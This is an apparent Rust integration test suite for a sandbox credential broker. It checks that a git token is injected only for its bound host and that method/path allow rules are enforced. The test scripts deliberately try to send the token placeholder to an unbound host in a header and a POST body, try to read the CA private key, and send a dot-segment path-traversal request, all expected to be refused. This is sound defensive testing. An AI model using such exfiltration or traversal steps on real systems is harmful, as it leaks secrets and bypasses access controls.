//! Brokered credentials (issue #38): a secret bound to its endpoints. A
//! Docker sandbox with no network pushes to an https git remote on this
//! machine (the real `git http-backend`, demanding the token) through the
//! agent, which terminates the sandbox's TLS with its own CA and puts the
//! token into git's basic auth; the token is nowhere in the sandbox, and
//! the placeholder sent anywhere else is refused and recorded.

use std::time::Duration;

use sandhold_tests::docker::{DEBIAN_IMAGE, DockerCleanup, ensure_debian_image};
use sandhold_tests::git_remote::{GitRemote, HostServer};
use sandhold_tests::local::TestDir;
use sandhold_tests::model::broker_server;
use sandhold_tests::run::{Seen, command_run, put_definition, read_until};
use shared::proto::v1 as api;

use crate::broker::{as_run_user_beside_the_agent, assert_nowhere_in_the_sandbox, customs, exec};

/// The run read to its end: what was seen, and its text output.
async fn to_the_end(
    stream: &mut tonic::Streaming<api::RunEvent>,
    s: &sandhold_tests::server::TenantServer,
) -> (Seen, String) {
    let mut seen = Seen::default();
    read_until(stream, &mut seen, |_| false)
        .await
        .unwrap_or_else(|e| panic!("{e:?}\n{}", s.server.log_text()));
    let output = seen
        .chunks
        .iter()
        .filter(|(_, c)| c.r#type() == api::ChunkType::TextMessageContent)
        .map(|(_, c)| c.delta.as_str())
        .collect();
    (seen, output)
}

/// The run's script: push through the broker, then send the placeholder
/// where it may not go (another header to the bound host, a header and a
/// body to an allowed but unbound host), then wait for the test's scan.
fn script(git_port: u16, other_port: u16) -> String {
    format!(
        r#"R=https://127.0.0.2:{git_port}/repo.git
H='!f() {{ echo username=git; echo "password=$GH_TOKEN"; }}; f'
cd /tmp && git -c credential.helper="$H" clone -q $R w 2>&1 && cd w \
  && git -c user.email=t@example.test -c user.name=t commit -q --allow-empty -m pushed-through-the-broker \
  && git -c credential.helper="$H" push -q origin HEAD:main 2>&1 && echo PUSHED
git -c credential.helper="$H" -c http.extraHeader="X-Leak: $GH_TOKEN" ls-remote $R 2>&1 | grep -q 'error: 403' \
  && echo OTHER-HEADER-REFUSED
python3 - <<'PY'
import os, urllib.request as u, urllib.error as e
url = 'http://127.0.0.3:{other_port}/'
for name, req in [('HEADER', u.Request(url, headers={{'X-Leak': os.environ['GH_TOKEN']}})),
                  ('BODY', u.Request(url, data=('x=' + os.environ['GH_TOKEN']).encode(), method='POST'))]:
    try:
        print('UNBOUND-' + name + '-SERVED', u.urlopen(req, timeout=30).read().decode())
    except e.HTTPError as x:
        print('UNBOUND-' + name, x.code, x.read().decode())
PY
touch /tmp/pushed
while [ ! -e /tmp/done ]; do sleep 0.2; done"#
    )
}

#[tokio::test]
async fn git_push_from_a_sandbox_without_network_authenticates_with_a_token_never_in_it() {
    if !sandhold_tests::services::docker() {
        return;
    }
    ensure_debian_image();
    let s = broker_server("credentials").await;
    let _cleanup = DockerCleanup { tenant: s.tenant.clone() };
    let dir = TestDir::new("credentials");
    let token = format!("ghp_{}", uuid::Uuid::new_v4().simple());
    let remote = GitRemote::start(dir.path(), "127.0.0.2", &token);
    let other = HostServer::start(dir.path(), "127.0.0.3", "served-to-the-sandbox");
    let docker = api::DockerProvider { image: DEBIAN_IMAGE.into(), ..Default::default() };
    let definition = api::SandboxDefinition {
        id: "creds".into(),
        provider: Some(api::ProviderSpec { provider: Some(api::provider_spec::Provider::Docker(docker)) }),
        secret_names: vec!["GH_TOKEN".into()],
        network: Some(api::Network {
            allow_hosts: vec![format!("127.0.0.3:{}", other.port)],
            extra_roots_pem: remote.ca_pem.clone(),
            credentials: vec![api::NetworkCredential {
                secret: "GH_TOKEN".into(),
                hosts: vec![format!("127.0.0.2:{}", remote.port)],
                basic: true,
                ..Default::default()
            }],
            ..Default::default()
        }),
        ..Default::default()
    };
    let mut sandboxes = s.server.sandboxes(&s.token).await;
    put_definition(&mut sandboxes, definition).await;
    let mut runs = s.server.runs(&s.token).await;
    let mut start = command_run(&format!("push-{}", s.nonce), "t", "creds", &script(remote.port, other.port));
    start.secrets = [("GH_TOKEN".to_string(), token.clone())].into();
    let mut stream = runs.start_run(start).await.unwrap().into_inner();

    // Pushed and refused: the run waits for the scan.
    let container = tokio::time::timeout(Duration::from_secs(120), async {
        loop {
            let list =
                sandboxes.list_sandboxes(api::ListSandboxesRequest::default()).await.unwrap().into_inner();
            if let Some(sandbox) = list.sandboxes.into_iter().find(|s| s.thread_id == "t") {
                let pushed =
                    exec(&mut sandboxes, &sandbox.sandbox_id, "test -e /tmp/pushed && echo yes", b"").await;
                if pushed.trim() == "yes" {
                    return sandbox;
                }
            }
            tokio::time::sleep(Duration::from_millis(300)).await;
        }
    })
    .await
    .unwrap_or_else(|_| panic!("the run never finished pushing\n{}", s.server.log_text()));
    let sandbox = container.sandbox_id.clone();
    assert_nowhere_in_the_sandbox(&mut sandboxes, &container, &token, "GH_TOKEN=sandhold-credential-").await;
    let git_own = "git config --global --list 2>&1; cat ~/.git-credentials ~/.config/git/credentials 2>&1; \
                   git -C /tmp/w config --list 2>&1";
    let git_config = as_run_user_beside_the_agent(&container.provider_sandbox_id, git_own);
    assert!(!git_config.contains(&token), "{git_config}");
    // The CA's key is the agent's alone.
    let key = as_run_user_beside_the_agent(
        &container.provider_sandbox_id,
        "cat /run/sandhold/journal/egress-ca.key 2>&1 | head -c 200",
    );
    assert!(!key.contains("PRIVATE KEY"), "the run user reads the CA's key: {key}");
    exec(&mut sandboxes, &sandbox, "touch /tmp/done", b"").await;

    let (seen, output) = to_the_end(&mut stream, &s).await;
    let terminal = seen.terminal().expect("a terminal chunk");
    assert_eq!(terminal.r#type(), api::ChunkType::RunFinished, "{output}\n{}", s.server.log_text());
    assert!(output.contains("PUSHED"), "{output}\n{}", s.server.log_text());
    assert_eq!(remote.subjects().trim(), "pushed-through-the-broker");
    let requests = remote.requests();
    assert!(requests.iter().any(|r| r["authorized"] == true && r["method"] == "POST"), "{requests:?}");
    // Every request that carried credentials carried the real token: the
    // placeholder never reached the remote, and nor did the leaking one.
    assert!(
        requests.iter().all(|r| r["authorized"] == true || r["sent_credentials"] == false),
        "{requests:?}"
    );
    assert!(output.contains("OTHER-HEADER-REFUSED"), "{output}");
    assert!(!output.contains("-SERVED"), "{output}");
    assert!(output.contains("UNBOUND-HEADER 403"), "{output}");
    assert!(output.contains("UNBOUND-BODY 502"), "{output}");
    // Each refusal is on the run's record of its connections.
    let network = customs(&seen, "sandbox.network");
    let blocked = |port: u16| {
        network.iter().any(|n| {
            n["port"] == port
                && n["allowed"] == false
                && n["error"]
                    .as_str()
                    .is_some_and(|e| e.contains("blocked by the sandbox's agent") && e.contains("GH_TOKEN"))
        })
    };
    assert!(blocked(remote.port), "{network:?}");
    assert!(blocked(other.port), "{network:?}");
    // And the run's end lists what was refused, with counts, in one record.
    let summary = customs(&seen, "network.blocked");
    assert_eq!(summary.len(), 1, "{summary:?}");
    let count = |port: u16| {
        summary[0]["blocked"]
            .as_array()
            .unwrap()
            .iter()
            .find(|b| b["port"] == port)
            .map(|b| b["count"].clone())
    };
    assert_eq!(count(other.port), Some(2.into()), "{summary:?}");
    assert!(count(remote.port).is_some_and(|c| c.as_u64() >= Some(1)), "{summary:?}");
    assert!(
        network.iter().any(|n| n["port"] == remote.port
            && n["allowed"] == true
            && n["bytes_received"].as_u64() > Some(0)),
        "{network:?}"
    );
}

/// Rules by method and path (issue #38): an allow rule for `GET
/// /repos/acme/**` on a host lets exactly that through; its https is
/// intercepted (never tunnelled blind), and a POST to the same path, a GET
/// of another repository and a dot-segment escape are refused before they
/// reach the API, each on the run's record.
#[tokio::test]
async fn a_method_and_path_rule_lets_only_its_requests_through() {
    if !sandhold_tests::services::docker() {
        return;
    }
    ensure_debian_image();
    let s = broker_server("rules").await;
    let _cleanup = DockerCleanup { tenant: s.tenant.clone() };
    let dir = TestDir::new("rules");
    let api_server = GitRemote::echo(dir.path(), "127.0.0.2");
    let docker = api::DockerProvider { image: DEBIAN_IMAGE.into(), ..Default::default() };
    let definition = api::SandboxDefinition {
        id: "rules".into(),
        provider: Some(api::ProviderSpec { provider: Some(api::provider_spec::Provider::Docker(docker)) }),
        network: Some(api::Network {
            extra_roots_pem: api_server.ca_pem.clone(),
            allow: vec![api::NetworkRule {
                host: format!("127.0.0.2:{}", api_server.port),
                methods: vec!["GET".into()],
                path: "/repos/acme/**".into(),
            }],
            ..Default::default()
        }),
        ..Default::default()
    };
    let mut sandboxes = s.server.sandboxes(&s.token).await;
    put_definition(&mut sandboxes, definition).await;
    let script = format!(
        r#"python3 - <<'PY'
import urllib.request as u, urllib.error as e
base = 'https://127.0.0.2:{port}'
for m, p in [('GET', '/repos/acme/x'), ('POST', '/repos/acme/x'), ('GET', '/repos/other/x'),
             ('GET', '/repos/acme/x/../../other/x')]:
    req = u.Request(base + p, method=m, data=b'{{}}' if m == 'POST' else None)
    try:
        r = u.urlopen(req, timeout=30)
        print('ANSWER', m, p, r.status, r.read().decode())
    except e.HTTPError as x:
        print('ANSWER', m, p, x.code)
PY"#,
        port = api_server.port
    );
    let mut runs = s.server.runs(&s.token).await;
    let mut stream = runs
        .start_run(command_run(&format!("rules-{}", s.nonce), "t", "rules", &script))
        .await
        .unwrap()
        .into_inner();
    let (seen, output) = to_the_end(&mut stream, &s).await;
    for line in [
        "ANSWER GET /repos/acme/x 200 GET /repos/acme/x",
        "ANSWER POST /repos/acme/x 403",
        "ANSWER GET /repos/other/x 403",
        "ANSWER GET /repos/acme/x/../../other/x 403",
    ] {
        assert!(output.contains(line), "{line:?} in {output}\n{}", s.server.log_text());
    }
    let reached: Vec<String> = api_server
        .requests()
        .iter()
        .map(|r| {
            format!("{} {}", r["method"].as_str().unwrap_or_default(), r["path"].as_str().unwrap_or_default())
        })
        .collect();
    assert_eq!(reached, ["GET /repos/acme/x"], "only the allowed request reached the API");
    let network = customs(&seen, "sandbox.network");
    assert!(
        network.iter().any(|n| n["allowed"] == false
            && n["error"].as_str().is_some_and(|e| e.contains("POST 127.0.0.2") && e.contains("allowlist"))),
        "{network:?}\n{:?}\n{}",
        seen.chunks
            .iter()
            .map(|(_, c)| format!("{:?} {} {}", c.r#type(), c.name, c.value_json))
            .collect::<Vec<_>>(),
        s.server.log_text()
    );
}
